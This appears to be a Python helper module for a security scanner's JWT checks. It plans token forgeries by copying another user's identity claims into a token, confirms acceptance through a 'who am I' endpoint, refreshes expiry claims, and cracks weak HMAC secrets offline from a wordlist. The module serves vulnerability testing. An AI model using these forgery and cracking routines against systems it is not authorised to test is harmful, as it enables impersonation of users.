"""Shared by the JWT checks: the identity oracle that turns "200" into evidence.

A forged token is *accepted* only when the API's "who am I" endpoint, called with it,
answers with the identity the forged claims name, while a garbage token is refused.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Any

from bastion.scan import _jwt, _wordlist
from bastion.scan._context import ScanContext
from bastion.scan._identity import Identity
from bastion.scan._target import Exchange

_IDENTITY_CLAIMS = ("sub", "username", "preferred_username", "email", "name", "uid", "user_id")


@dataclass(frozen=True)
class Forgery:
    """Who we start from, whose identity the forged claims carry, and where to prove it."""

    source: Identity
    token: _jwt.Jwt
    expected: Identity
    payload: dict[str, Any]
    oracle: str


async def setup(ctx: ScanContext) -> Forgery | None:
    """The forgery plan, or None when there is no JWT identity or no oracle to prove with."""
    if "jwt_forgery" in ctx.state:
        plan: Forgery | None = ctx.state["jwt_forgery"]
        return plan
    ctx.state["jwt_forgery"] = plan = await _setup(ctx)
    return plan


async def _setup(ctx: ScanContext) -> Forgery | None:
    with_jwt = [i for i in ctx.identities if i.jwt is not None]
    if not with_jwt:
        return None
    profiles = await ctx.profiles()
    if not profiles:
        return None
    source = next((i for i in with_jwt if not i.admin), with_jwt[0])
    token = source.jwt
    if token is None or source.name not in profiles:
        return None
    oracle = profiles[source.name].path
    # A garbage token must be refused, or "accepted" would prove nothing.
    garbage = await ctx.send("GET", oracle, headers={"Authorization": "Bearer x.y.z"})
    if garbage is None or await ctx.shows(garbage, source):
        return None
    payload = dict(token.payload)
    expected = source
    victim = next(
        (i for i in with_jwt if i is not source and not i.admin and i.name in profiles), None
    )
    victim_token = victim.jwt if victim else None
    if victim and victim_token and victim_token.payload.get("iss") == payload.get("iss"):
        # Swap in another user's identity claims: acceptance then shows claim control.
        for claim in _IDENTITY_CLAIMS:
            if claim in victim_token.payload:
                payload[claim] = victim_token.payload[claim]
        expected = victim
    return Forgery(source, token, expected, payload, oracle)


async def accepted(ctx: ScanContext, plan: Forgery, token: str) -> Exchange | None:
    """The oracle's reply when ``token`` is accepted as the forged identity, else None."""
    ex = await ctx.send("GET", plan.oracle, headers={"Authorization": f"Bearer {token}"})
    return ex if await ctx.shows(ex, plan.expected) else None


def describe(plan: Forgery, token: str, what: str) -> str:
    parsed = _jwt.parse(token)
    header = parsed.header if parsed else {}
    return (
        f"{what}. Forged header {header}; identity claims changed from {plan.source.name!r} "
        f"to {plan.expected.name!r}; the identity endpoint {plan.oracle} answered as "
        f"{plan.expected.name!r}, while a garbage token was refused."
    )


def fresh_claims(payload: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """``payload`` with ``exp``/``iat`` made current unless ``changes`` say otherwise."""
    now = int(time.time())
    out = dict(payload)
    if "exp" in out:
        out["exp"] = now + 600
    if "iat" in out:
        out["iat"] = now - 5
    if "nbf" in out:
        out["nbf"] = now - 5
    out.update(changes)
    return {k: v for k, v in out.items() if v is not None}


def hmac_key(ctx: ScanContext, plan: Forgery) -> tuple[bytes, str] | None:
    """The HMAC key of the source token: a ``--jwt-secret`` or a cracked weak one.

    Returns (key, where it came from), memoised; the cracking is offline (no requests).
    """
    if "jwt_hmac_key" in ctx.state:
        found: tuple[bytes, str] | None = ctx.state["jwt_hmac_key"]
        return found
    result: tuple[bytes, str] | None = None
    if plan.token.alg.upper().startswith("HS"):
        for secret in ctx.options.jwt_secrets:
            if _jwt.hmac_matches(plan.token, secret.encode()):
                result = (secret.encode(), "given with --jwt-secret")
                break
        else:
            host = ctx.target.origin[1].split(".")[0]
            for word in _wordlist.expand(ctx.options.jwt_wordlist, (host,)):
                if _jwt.hmac_matches(plan.token, word.encode()):
                    result = (word.encode(), "cracked from the wordlist")
                    break
    ctx.state["jwt_hmac_key"] = result
    return result
